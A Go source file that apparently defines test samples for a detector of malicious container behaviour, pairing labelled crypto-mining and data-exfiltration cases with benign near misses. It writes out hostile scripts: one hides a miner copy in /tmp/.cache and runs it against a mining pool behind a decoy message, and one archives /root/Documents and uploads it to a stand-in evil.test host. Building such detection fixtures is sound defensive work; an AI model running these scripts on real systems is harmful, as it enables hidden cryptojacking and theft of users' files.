package samples

func miningProtocol() []Sample {
	server := acts("pool-server")
	server.Ports = []string{"3333/tcp"}
	return []Sample{
		shows("mining-protocol/monero", acts("mine-xmr", "pool.mine.test:3333"), malicious, "pool.mine.test"),
		shows("mining-protocol/stratum", acts("mine-btc", "stratum.mine.test:443"), malicious, "stratum.mine.test"),
		shows("mining-protocol/typosquat", typosquat(), malicious, "pool.mine.test"),
		nearly("mining-protocol/chain-client", acts("json-rpc")),
		nearly("mining-protocol/pool-server", server),
	}
}

// typosquat is scenario A1: a script with a harmless name starts a hidden copy
// of the miner that the image carries, beside the program that one expects.
func typosquat() Spec {
	return script(`mkdir -p /tmp/.cache
cp /bin/actor /tmp/.cache/xmrig
/tmp/.cache/xmrig mine-xmr pool.mine.test:3333 &
echo "openjdk 21"
wait
`)
}

func canaryExfil() []Sample {
	page := acts("env-page")
	page.Ports = []string{"8080/tcp"}
	return []Sample{
		shows("canary-exfil/raw", acts("exfil-post"), malicious, "collect.evil.test"),
		shows("canary-exfil/base64", acts("exfil-base64"), malicious, "collect.evil.test"),
		shows("canary-exfil/dns", acts("exfil-dns"), malicious, "evil.test"),
		shows("canary-exfil/gzip", acts("exfil-gzip"), malicious, "collect.evil.test", "base64+gzip"),
		shows("canary-exfil/xor", acts("exfil-xor"), malicious, "203.0.113.77", "xor"),
		shows("canary-exfil/documents", script("tar czf /tmp/d.tgz /root/Documents\n/bin/actor upload http://upload.evil.test/d /tmp/d.tgz\n"), malicious, "upload.evil.test", "document"),
		shows("canary-exfil/bucket", acts("exfil-bucket"), malicious, "drop-7.s3.amazonaws.com"),
		nearly("canary-exfil/own-cloud", acts("s3-client")),
		nearly("canary-exfil/read-only", acts("read-secrets")),
		nearly("canary-exfil/answer-to-probe", page),
	}
}
